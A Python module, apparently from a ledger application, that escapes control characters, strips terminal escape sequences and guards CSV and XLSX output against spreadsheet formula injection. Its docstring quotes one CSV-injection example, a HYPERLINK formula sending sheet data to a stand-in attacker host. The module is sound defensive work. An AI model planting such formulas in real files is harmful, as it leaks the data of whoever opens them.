"""Text from one party is data for another: what text the ledger accepts, and how each writer
keeps what it holds from acting as anything but text.

What the ledger accepts. Every text field of an entry (references, lots, sites, descriptions, the
reason of a correction) holds printable text: no C0 control character (U+0000 to U+001F, line breaks
and tabs included), no DEL (U+007F), no C1 control character (U+0080 to U+009F) and no lone surrogate
(U+D800 to U+DFFF, which is not Unicode text and has no UTF-8 form). The entries file's reader and the
API's JSON reader refuse them with the same message (`text_problem`), naming the row or entry, the
field and the value.

What is already on a chain stays readable and never breaks a writer (a record is never deleted):
`escaped` writes such a character as its escape (`\\x00`, `\\x1b`, `\\ud800`), visible and inert, in the
workbooks, the CSV files and the problems' messages; `for_terminal` also removes terminal escape
sequences (`ESC [ 31 m`), for everything `pa` prints.

Formulas. A declarant chooses its lots, sites and descriptions; customs and the holder open the
reports in a spreadsheet. A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to
Excel and LibreOffice (OWASP, "CSV injection"): `=HYPERLINK("http://evil.example/?"&A1,"click")` as a
lot would send the sheet's data away when clicked. Every writer of a spreadsheet-bound file writes
text as text:

- CSV (`csv_cell`): such a cell gets a leading `'`, the spreadsheets' own mark of "this is text"; a
  number (`-5`, `+1.5`) is left as it is. The entries reader takes the mark off again
  (`from_csv_cell`), as a spreadsheet does when one types `'=X`: a rejects file sent back is the file
  that was refused.
- XLSX: the cell's type is text (`present.xlsx_report.text_cell`), so nothing it holds is a formula.
"""

from __future__ import annotations

import re
from typing import Final

__all__ = ["csv_cell", "escaped", "for_terminal", "formula_like", "from_csv_cell", "text_problem"]

FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")
_NUMBER: Final = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
_NOT_TEXT: Final = re.compile("[\x00-\x1f\x7f-\x9f\ud800-\udfff]")
_SHORT: Final = {"\n": "\\n", "\r": "\\r", "\t": "\\t"}
# CSI (ESC [ … final), OSC (ESC ] … BEL or ESC \\), the 8-bit CSI, and the two-character escapes.
_ESCAPE_SEQUENCE: Final = re.compile(
    r"\x1b\[[0-?]*[ -/]*[@-~]|\x9b[0-?]*[ -/]*[@-~]|\x1b\][^\x07\x1b]*(?:\x07|\x1b\\)?|\x1b[@-Z\\-_]"
)


def _escape(character: str) -> str:
    code = ord(character)
    return _SHORT.get(character) or (f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}")


def text_problem(text: str) -> str | None:
    """Why `text` cannot be a record's text (its first character that is not printable text), or None."""
    found = _NOT_TEXT.search(text)
    if found is None:
        return None
    character, position = found.group(), found.start() + 1
    code = f"U+{ord(character):04X}"
    if character in "\n\r":
        return "must be a single line of text"
    if "\ud800" <= character <= "\udfff":
        return f"holds a lone surrogate ({code}) at character {position}, which is not text"
    return (
        f"holds the control character {code} at character {position}; "
        "a record's text holds printable characters only"
    )


def escaped(text: str, *, keep: str = "") -> str:
    """`text` with each character that is not printable text written as its escape (`\\x00`, `\\n`,
    `\\ud800`), those in `keep` excepted: what the writers do with text already on a chain."""
    return _NOT_TEXT.sub(lambda m: m.group() if m.group() in keep else _escape(m.group()), text)


def for_terminal(text: str, *, lines: bool = False) -> str:
    """`text` safe to print on a terminal: escape sequences removed, any other control character
    escaped (line breaks kept when `lines`: text of the program's own, several lines long)."""
    return escaped(_ESCAPE_SEQUENCE.sub("", text), keep="\n" if lines else "")


def formula_like(text: str) -> bool:
    """Whether a spreadsheet would read `text` as a formula (OWASP's CSV-injection rule), a number
    written with its sign excepted."""
    return text.startswith(FORMULA_STARTS) and _NUMBER.fullmatch(text) is None


def csv_cell(text: str) -> str:
    """`text` as a CSV cell that no spreadsheet reads as a formula (a leading `'` when it would), and
    whose characters are all text (`escaped`)."""
    text = escaped(text)
    return "'" + text if formula_like(text) else text


def from_csv_cell(text: str) -> str:
    """The inverse of `csv_cell` for a cell read from a CSV: `'=X` is the text `=X`."""
    return text[1:] if text.startswith("'") and formula_like(text[1:]) else text
